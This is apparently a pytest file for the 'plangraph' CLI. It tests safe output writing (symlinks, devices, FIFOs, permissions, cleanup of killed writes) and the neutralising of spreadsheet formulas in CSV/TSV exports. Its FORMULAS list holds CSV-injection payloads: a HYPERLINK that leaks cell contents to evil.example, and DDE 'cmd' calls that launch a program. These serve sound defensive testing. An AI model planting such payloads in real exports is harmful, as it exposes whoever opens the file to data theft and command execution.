"""Outputs (issue 15): ``-o`` never damages what is at the path (point 3), a killed write
leaves nothing behind for long (point 4), and no CSV cell runs as a formula (point 6)."""

from __future__ import annotations

import csv
import io
import os
import signal
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

from plangraph.cli import cli

from conftest import FILES, SOURCES

ROOT = Path(__file__).resolve().parents[1]
as_root = pytest.mark.skipif(os.geteuid() != 0, reason="mknod needs root")


def export_csv(graph_file, output) -> "click.testing.Result":  # noqa: F821
    return CliRunner().invoke(cli, ["export", "-f", "csv", "-o", str(output), "--graph", str(graph_file)])


# -- point 3: what -o does with what is already there ------------------------------------------

def test_a_symlink_is_followed_and_stays_a_link(graph_file, tmp_path):
    target = tmp_path / "real.csv"
    target.write_text("old", encoding="utf-8")
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    result = export_csv(graph_file, link)
    assert result.exit_code == 0, result.output
    assert link.is_symlink() and os.readlink(link) == str(target)
    assert target.read_bytes().startswith("\ufeffDecision,".encode("utf-8"))
    assert sorted(p.name for p in tmp_path.iterdir()) == ["link.csv", "real.csv"]


@as_root
@pytest.mark.parametrize("minor,readable", [(3, False), (5, True)], ids=["null", "zero"])
def test_a_character_device_stays_a_device(graph_file, tmp_path, minor, readable):
    device = tmp_path / "device"
    os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, minor))  # a copy of /dev/null, /dev/zero
    result = export_csv(graph_file, device)
    assert result.exit_code == 0, result.output
    assert stat.S_ISCHR(os.lstat(device).st_mode) and os.lstat(device).st_rdev == os.makedev(1, minor)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["device"]


@as_root
def test_a_full_device_is_an_error_naming_the_reason(graph_file, tmp_path):
    full = tmp_path / "full"
    os.mknod(full, stat.S_IFCHR | 0o666, os.makedev(1, 7))  # as /dev/full: every write is ENOSPC
    result = export_csv(graph_file, full)
    assert result.exit_code == 2 and "No space left on device" in result.output
    assert stat.S_ISCHR(os.lstat(full).st_mode)


def test_a_fifo_is_written_through(graph_file, tmp_path):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    received = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()), daemon=True)
    reader.start()
    result = export_csv(graph_file, fifo)
    reader.join(timeout=30)
    assert result.exit_code == 0, result.output
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert received and received[0].startswith("\ufeffDecision,".encode("utf-8"))


def test_a_link_to_standard_output_writes_to_it(graph_file, tmp_path):
    # /dev/stdout is a link into /proc; a link of our own to /proc/self/fd/1 behaves the same
    # (and a regression cannot replace the machine's /dev/stdout)
    link = tmp_path / "stdout"
    link.symlink_to("/proc/self/fd/1")
    command = [sys.executable, "-m", "plangraph", "export", "-f", "csv", "-o", str(link), "--graph", str(graph_file)]
    done = subprocess.run(command, capture_output=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("\ufeffDecision,".encode("utf-8"))
    assert link.is_symlink() and sorted(p.name for p in tmp_path.iterdir()) == ["stdout"]


def test_a_read_only_file_is_refused_and_kept(graph_file, tmp_path):
    target = tmp_path / "locked.csv"
    target.write_text("keep me", encoding="utf-8")
    target.chmod(0o444)
    result = export_csv(graph_file, target)
    assert result.exit_code == 2 and "read-only" in result.output and str(target) in result.output
    assert target.read_text(encoding="utf-8") == "keep me" and stat.S_IMODE(target.stat().st_mode) == 0o444


def test_a_private_file_stays_private(graph_file, tmp_path):
    target = tmp_path / "private.csv"
    target.write_text("old", encoding="utf-8")
    target.chmod(0o600)
    assert export_csv(graph_file, target).exit_code == 0
    assert stat.S_IMODE(target.stat().st_mode) == 0o600 and target.read_text(encoding="utf-8-sig") != "old"


@pytest.mark.parametrize("name", ["", ".", "folder"])
def test_no_file_name_or_a_directory_is_refused(graph_file, tmp_path, monkeypatch, name):
    (tmp_path / "folder").mkdir()
    monkeypatch.chdir(tmp_path)
    result = export_csv(graph_file, name)
    assert result.exit_code == 2, result.output
    assert "Device or resource busy" not in result.output and "Traceback" not in result.output
    assert "directory" in result.output or "file name" in result.output
    assert sorted(os.listdir(tmp_path)) == ["folder"]  # no temporary file left


# -- point 4: a killed writer's temporary file is removed by the next write ---------------------

PAUSED_WRITER = """
import os, sys, time
from plangraph import atomic
os.fsync = lambda fd: time.sleep(600)  # stop between writing the data and the rename
atomic.write_atomic(sys.argv[1], b"x" * 900_000)
"""


def start_paused_writer(target: Path) -> tuple[subprocess.Popen, Path]:
    writer = subprocess.Popen([sys.executable, "-c", PAUSED_WRITER, str(target)])
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        leftovers = list(target.parent.glob(f".{target.name}.*.tmp"))
        if leftovers and leftovers[0].stat().st_size == 900_000:
            return writer, leftovers[0]
        time.sleep(0.01)
    writer.kill()
    raise AssertionError("the writer did not start")


def test_a_killed_build_leaves_no_temporary_file_behind(tmp_path):
    sources = tmp_path / "sources"
    sources.mkdir()
    (sources / "plan.txt").write_bytes((SOURCES / FILES["003"]).read_bytes())
    out = tmp_path / "g.ttl"
    writer, leftover = start_paused_writer(out)
    writer.send_signal(signal.SIGKILL)  # as a build killed while writing (Ctrl-\, OOM killer, power)
    writer.wait()
    assert leftover.exists()
    minute_ago = time.time() - 60
    os.utime(leftover, (minute_ago, minute_ago))
    result = CliRunner().invoke(cli, ["build", "--sources", str(sources), "-o", str(out), "-q"])
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["g.ttl", "sources"]


def test_a_running_writer_keeps_its_temporary_file(tmp_path):
    from plangraph.atomic import write_atomic

    out = tmp_path / "g.ttl"
    writer, leftover = start_paused_writer(out)
    try:
        minute_ago = time.time() - 60
        os.utime(leftover, (minute_ago, minute_ago))
        write_atomic(out, "other\n")  # another write meanwhile: the live writer's file is not touched
        assert leftover.exists() and out.read_text(encoding="utf-8") == "other\n"
    finally:
        writer.kill()
        writer.wait()


# -- point 6: CSV cells that a spreadsheet would run ------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"bấm vào đây")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture(scope="module")
def hostile_graph(tmp_path_factory, built):
    """The real graph with the texts of six tasks that Sở Kế hoạch và Đầu tư leads replaced by formulas."""
    import pyoxigraph as ox

    store = ox.Store()
    store.bulk_load(input=built.turtle.encode("utf-8"), format=ox.RdfFormat.TURTLE)
    label = ox.NamedNode("http://www.w3.org/2000/01/rdf-schema#label")
    tasks = [s["t"] for s in store.query(
        "SELECT ?t WHERE { ?t <https://w3id.org/plangraph/ontology#leadAgency>/"
        "<http://www.w3.org/2004/02/skos/core#prefLabel> 'Sở Kế hoạch và Đầu tư'@vi } ORDER BY ?t LIMIT 6")]
    assert len(tasks) == 6
    for task, text in zip(tasks, FORMULAS):
        for quad in list(store.quads_for_pattern(task, label, None)):
            store.remove(quad)
        store.add(ox.Quad(task, label, ox.Literal(text, language="vi")))
    path = tmp_path_factory.mktemp("formulas") / "plangraph.ttl"
    path.write_bytes(store.dump(format=ox.RdfFormat.TURTLE, from_graph=ox.DefaultGraph()))
    return path


def cells(text: str, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def assert_neutralised(found: list[str], tsv: bool = False) -> None:
    """Each formula is there with a quote in front (TSV: tabs and CRs made spaces), and no cell
    starts a formula."""
    for formula in FORMULAS:
        assert "'" + (formula.replace("\t", " ").replace("\r", " ") if tsv else formula) in found, formula
    assert not [cell for cell in found if cell[:1] in ("=", "+", "@", "\t", "\r")]


def test_export_csv_neutralises_formulas(hostile_graph, tmp_path):
    out = tmp_path / "tasks.csv"
    assert export_csv(hostile_graph, out).exit_code == 0
    assert_neutralised(cells(out.read_bytes().decode("utf-8-sig")))  # no newline translation: "\r" stays


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_query_csv_and_tsv_neutralise_formulas(hostile_graph, fmt):
    query = ("SELECT ?text ?n WHERE { ?t a <https://w3id.org/plangraph/ontology#Task> ; "
             "<http://www.w3.org/2000/01/rdf-schema#label> ?text BIND(-1 AS ?n) }")
    result = CliRunner().invoke(cli, ["sparql", query, "-f", fmt, "--graph", str(hostile_graph)])
    assert result.exit_code == 0, result.output
    found = cells(result.stdout, "," if fmt == "csv" else "\t")
    assert_neutralised(found, tsv=fmt == "tsv")
    assert "-1" in found  # a plain negative number is left as it is


def test_tasks_csv_neutralises_formulas(hostile_graph):
    result = CliRunner().invoke(cli, ["tasks", "--agency", "Sở Kế hoạch và Đầu tư", "-f", "csv",
                                      "--graph", str(hostile_graph)])
    assert result.exit_code == 0, result.output
    assert_neutralised(cells(result.stdout))
